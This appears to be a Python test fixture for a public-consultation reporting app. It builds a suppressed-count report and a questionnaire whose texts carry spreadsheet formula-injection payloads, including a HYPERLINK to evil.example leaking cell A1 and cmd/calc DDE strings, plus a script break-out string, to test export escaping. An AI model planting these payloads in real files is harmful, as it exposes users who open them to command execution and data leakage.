"""A consultation with hostile texts and a hand-built, published report, for the open data tests.

The numbers are suppressed with k = 5. The counts suppression removed were 3 and 4
(:data:`TRUE_HIDDEN`): they must appear nowhere, since the snapshot never held them.
"""

from __future__ import annotations

from flask import Flask

from consult.questionnaires.schema import Questionnaire
from consult.reports.data import (
    Borda,
    NumberSummary,
    QuestionResult,
    ReportData,
    Table,
)
from consult.reports.models import ReportStatus
from tests.factories import Factory, sample_questionnaire
from tests.reports.sample import store_report

SLUG = "npm-2027"
K = 5
#: What suppression hid: no file, page or answer may hold these counts.
TRUE_HIDDEN = (3, 4)
#: Texts that open a formula in a spreadsheet program.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
#: Characters a JSON encoder must escape.
QUOTED = 'Say "no" \\ to </script>'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def table(
    rows: list[str],
    columns: list[str],
    cells: list[list[int | None]],
    row_totals: list[int | None],
    column_totals: list[int | None],
    total: int | None,
    add_up: bool = True,
) -> Table:
    return Table(rows, columns, cells, row_totals, column_totals, total, add_up)


def one_column(rows: list[str], cells: list[int | None], total: int, add_up: bool = True) -> Table:
    return table(rows, ["all"], [[c] for c in cells], list(cells), [total], total, add_up)


GROUP = ["deprived_of_liberty", "others"]


def report_data() -> ReportData:
    """The published numbers; ``None`` marks the two hidden counts (3 and 4) and their
    secondary partners."""
    return ReportData(
        k=K,
        responses=38,
        held=0,
        participation={
            "category": table(
                ["civil_society", "parliament", "deprived_of_liberty"],
                ["open", "invited", "sealed"],
                [[14, 0, None], [None, 6, 0], [None, 0, 9]],
                [None, None, None],
                [None, 6, None],
                38,
            ),
        },
        questions=[
            QuestionResult(
                "model",
                "single",
                tables={
                    "all": one_column(["a", "b", "c"], [20, None, None], 38),
                    "group": table(
                        ["a", "b", "c"],
                        GROUP,
                        [[6, 14], [None, 11], [0, None]],
                        [20, None, None],
                        [None, 29],
                        38,
                    ),
                },
            ),
            QuestionResult(
                "topics",
                "multiple",
                tables={"all": one_column(["x", "y"], [25, 30], 38, add_up=False)},
            ),
            QuestionResult(
                "ranking",
                "ranking",
                tables={
                    "all": table(
                        ["ombuds", "new-body"],
                        ["1", "2"],
                        [[22, 16], [16, 22]],
                        [38, 38],
                        [38, 38],
                        76,
                    )
                },
                borda={
                    "all": Borda(["ombuds", "new-body"], ["all"], [[22], [16]], [38]),
                    "group": Borda(
                        ["ombuds", "new-body"], GROUP, [[None, 15], [None, 11]], [None, 26]
                    ),
                },
            ),
            QuestionResult(
                "visits",
                "number",
                tables={"all": one_column(["answered"], [12], 12)},
                numbers={
                    "all": NumberSummary(["all"], [12], [6.5], [6.0]),
                    "group": NumberSummary(GROUP, [None, 9], [None, 7.25], [None, 7.0]),
                },
            ),
        ],
        options_question="ranking",
    )


def hostile_questionnaire() -> Questionnaire:
    """The sample questionnaire whose texts try to run formulas, or break out of JSON."""
    document = sample_questionnaire(["en", "fr"])
    model, topics = document.question("model"), document.question("topics")
    assert model is not None and topics is not None
    model.text = {"en": HYPERLINK, "fr": f"[fr] {HYPERLINK}"}
    model.choices[0].label = {"en": COMMAND, "fr": COMMAND}
    topics.text = {"en": QUOTED, "fr": QUOTED}
    return document


def consultation(make: Factory, slug: str = SLUG) -> str:
    """An open consultation of an organisation whose name is a formula."""
    make.organisation("acme", name=SUM)
    return make.consultation(slug=slug, opened=True, questionnaire=hostile_questionnaire())


def publish(
    app: Flask,
    slug: str = SLUG,
    status: ReportStatus = ReportStatus.PUBLISHED,
    reason: dict[str, str] | None = None,
) -> None:
    """Insert :func:`report_data` as a report row, as the workflow would leave it."""
    store_report(app, slug, report_data(), status=status, reason=reason)
